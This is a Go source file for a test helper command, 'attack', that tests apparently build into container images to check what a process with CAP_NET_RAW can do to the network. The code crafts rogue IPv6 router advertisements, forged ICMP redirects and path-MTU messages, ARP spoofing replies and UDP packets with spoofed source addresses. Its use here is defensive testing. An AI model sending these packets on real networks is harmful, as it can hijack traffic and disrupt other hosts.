// Command attack does to a network what a RUN step with CAP_NET_RAW can do. Tests
// put it into images.
//
//	attack advertise         router advertisements on every interface
//	attack redirect DST      redirects of an IPv4 destination to another gateway, over lo
//	attack shrink DST        claims that little fits the way to an IPv4 destination
//	attack mtu DST           no attack: prints what fits the way to an IPv4 destination
//	attack arp ADDRESS       claims an IPv4 address of the link
//	attack udp SRC DST PORT TEXT   a datagram from any source address
package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strconv"

	"golang.org/x/sys/unix"
)

func main() {
	var err error
	switch args := os.Args[2:]; os.Args[1] {
	case "advertise":
		err = everywhere(unix.ETH_P_IPV6, advertisement)
	case "redirect":
		err = redirect(netip.MustParseAddr(args[0]))
	case "shrink":
		err = shrink(netip.MustParseAddr(args[0]))
	case "mtu":
		err = mtu(netip.MustParseAddr(args[0]))
	case "arp":
		address := netip.MustParseAddr(args[0])
		err = everywhere(unix.ETH_P_ARP, func(i net.Interface) []byte { return claim(i, address) })
	case "udp":
		port, _ := strconv.Atoi(args[2])
		err = datagram(netip.MustParseAddr(args[0]), netip.MustParseAddr(args[1]), port, args[3])
	default:
		err = fmt.Errorf("no attack %q", os.Args[1])
	}
	if err != nil {
		fmt.Println("attack:", err)
	}
}

// everywhere sends a packet from each interface to all on its link.
func everywhere(protocol uint16, packet func(net.Interface) []byte) error {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	interfaces, err := net.Interfaces()
	for _, i := range interfaces {
		to := &unix.SockaddrLinklayer{Protocol: protocol<<8 | protocol>>8, Ifindex: i.Index, Halen: 6, Addr: [8]byte{255, 255, 255, 255, 255, 255}}
		if protocol == unix.ETH_P_IPV6 {
			to.Addr = [8]byte{0x33, 0x33, 0, 0, 0, 1}
		}
		if i.Flags&net.FlagLoopback != 0 {
			to.Addr = [8]byte{}
		}
		if sendErr := unix.Sendto(fd, packet(i), 0, to); sendErr != nil {
			fmt.Println(i.Name, sendErr)
		}
	}
	return err
}

// advertisement is a router's: a default route, and the prefix 2001:db8:bad::/64.
func advertisement(i net.Interface) []byte {
	from, to := netip.MustParseAddr("fe80::bad").As16(), netip.MustParseAddr("ff02::1").As16()
	icmp := []byte{134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0}
	prefix := netip.MustParseAddr("2001:db8:bad::").As16()
	icmp = append(icmp, 3, 4, 64, 0xc0, 0, 0, 0x0e, 0x10, 0, 0, 0x0e, 0x10, 0, 0, 0, 0)
	icmp = append(icmp, prefix[:]...)
	if len(i.HardwareAddr) == 6 {
		icmp = append(append(icmp, 1, 1), i.HardwareAddr...)
	}
	pseudo := append(append(append([]byte{}, from[:]...), to[:]...), 0, 0, 0, byte(len(icmp)), 0, 0, 0, 58)
	binary.BigEndian.PutUint16(icmp[2:], checksum(append(pseudo, icmp...)))
	header := []byte{0x60, 0, 0, 0, 0, byte(len(icmp)), 58, 255}
	return append(append(append(header, from[:]...), to[:]...), icmp...)
}

func claim(i net.Interface, address netip.Addr) []byte {
	ip := address.As4()
	var b bytes.Buffer
	b.Write([]byte{0, 1, 8, 0, 6, 4, 0, 2})
	b.Write(append(append([]byte{}, hardware(i)...), ip[:]...))
	b.Write(append([]byte{255, 255, 255, 255, 255, 255}, ip[:]...))
	return b.Bytes()
}

func hardware(i net.Interface) []byte {
	if len(i.HardwareAddr) == 6 {
		return i.HardwareAddr
	}
	return make([]byte, 6)
}

// datagram writes the IP header itself, source address and all.
func datagram(from, to netip.Addr, port int, text string) error {
	udp := []byte{0x30, 0x39, byte(port >> 8), byte(port), 0, byte(8 + len(text)), 0, 0}
	return raw(from, to, unix.IPPROTO_UDP, append(udp, text...))
}

// redirect sends to this namespace itself what the gateway would say.
func redirect(to netip.Addr) error {
	_, gateway, err := addresses()
	if err != nil {
		return err
	}
	other := gateway.As4()
	other[3] += 100
	return complain(to, append([]byte{5, 1, 0, 0}, other[:]...))
}

// shrink sends to this namespace itself what a router on the way would say.
func shrink(to netip.Addr) error { return complain(to, []byte{3, 4, 0, 0, 0, 0, 2, 88}) }

// complain answers a packet to a destination with an ICMP error of the gateway's.
func complain(to netip.Addr, icmp []byte) error {
	own, gateway, err := addresses()
	if err != nil {
		return err
	}
	icmp = append(icmp, packet(own, to, unix.IPPROTO_ICMP, []byte{8, 0, 0, 0, 0, 1, 0, 1})...)
	binary.BigEndian.PutUint16(icmp[2:], checksum(icmp))
	// A process must have sent what is answered.
	if _, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP); err != nil {
		return err
	}
	return raw(gateway, own, unix.IPPROTO_ICMP, icmp)
}

func mtu(to netip.Addr) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	if err := unix.Connect(fd, &unix.SockaddrInet4{Port: 9, Addr: to.As4()}); err != nil {
		return err
	}
	n, err := unix.GetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_MTU)
	fmt.Println("mtu", n)
	return err
}

func addresses() (own, gateway netip.Addr, err error) {
	conn, err := net.Dial("udp4", "192.0.2.1:9")
	if err != nil {
		return own, gateway, err
	}
	own = conn.LocalAddr().(*net.UDPAddr).AddrPort().Addr()
	routes, err := os.ReadFile("/proc/net/route")
	for _, line := range bytes.Split(routes, []byte("\n")) {
		fields := bytes.Fields(line)
		if len(fields) > 2 && string(fields[1]) == "00000000" {
			n, _ := strconv.ParseUint(string(fields[2]), 16, 32)
			gateway = netip.AddrFrom4([4]byte{byte(n), byte(n >> 8), byte(n >> 16), byte(n >> 24)})
		}
	}
	return own, gateway, err
}

func raw(from, to netip.Addr, protocol byte, payload []byte) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return err
	}
	return unix.Sendto(fd, packet(from, to, protocol, payload), 0, &unix.SockaddrInet4{Addr: to.As4()})
}

func packet(from, to netip.Addr, protocol byte, payload []byte) []byte {
	source, destination := from.As4(), to.As4()
	header := []byte{0x45, 0, 0, byte(20 + len(payload)), 0, 1, 0, 0, 64, protocol, 0, 0}
	header = append(append(header, source[:]...), destination[:]...)
	binary.BigEndian.PutUint16(header[10:], checksum(header))
	return append(header, payload...)
}

func checksum(b []byte) uint16 {
	var sum uint32
	for len(b) > 1 {
		sum += uint32(binary.BigEndian.Uint16(b))
		b = b[2:]
	}
	if len(b) == 1 {
		sum += uint32(b[0]) << 8
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}
